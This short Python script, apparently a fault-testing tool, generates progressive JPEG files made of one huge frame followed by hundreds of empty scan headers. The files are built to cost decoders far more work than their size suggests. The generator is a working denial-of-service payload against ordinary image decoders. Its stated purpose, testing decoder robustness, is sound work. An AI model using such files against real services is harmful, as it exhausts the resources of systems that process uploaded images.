"""JPEG files that are cheap to send and expensive to decode, for fault tests.

    python3 hostile_jpeg.py OUT.jpg [--width W --height H --scans N]

writes a progressive JPEG header of a W × H colour frame followed by N scan headers
without any data; a decoder still walks the whole frame once per scan.
"""

import argparse
import struct


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def empty_scans(width: int = 8000, height: int = 8000, scans: int = 1000) -> bytes:
    if not (1 <= width <= 65535 and 1 <= height <= 65535 and scans >= 0):
        raise ValueError("width and height must lie within 1..65535, scans at least 0")
    quantisation = _segment(0xDB, bytes([0]) + bytes([1] * 64))
    frame = _segment(0xC2, struct.pack(">BHHB", 8, height, width, 3)
                     + bytes([1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]))
    # DC table 0: one code of one bit, for the symbol 0.
    huffman = _segment(0xC4, bytes([0x00, 1] + [0] * 15 + [0]))
    scan = _segment(0xDA, bytes([3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 0, 0]))
    return b"\xff\xd8" + quantisation + frame + huffman + scan * scans + b"\xff\xd9"


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out")
    parser.add_argument("--width", type=int, default=8000)
    parser.add_argument("--height", type=int, default=8000)
    parser.add_argument("--scans", type=int, default=1000)
    args = parser.parse_args()
    with open(args.out, "wb") as out:
        out.write(empty_scans(args.width, args.height, args.scans))


if __name__ == "__main__":
    main()
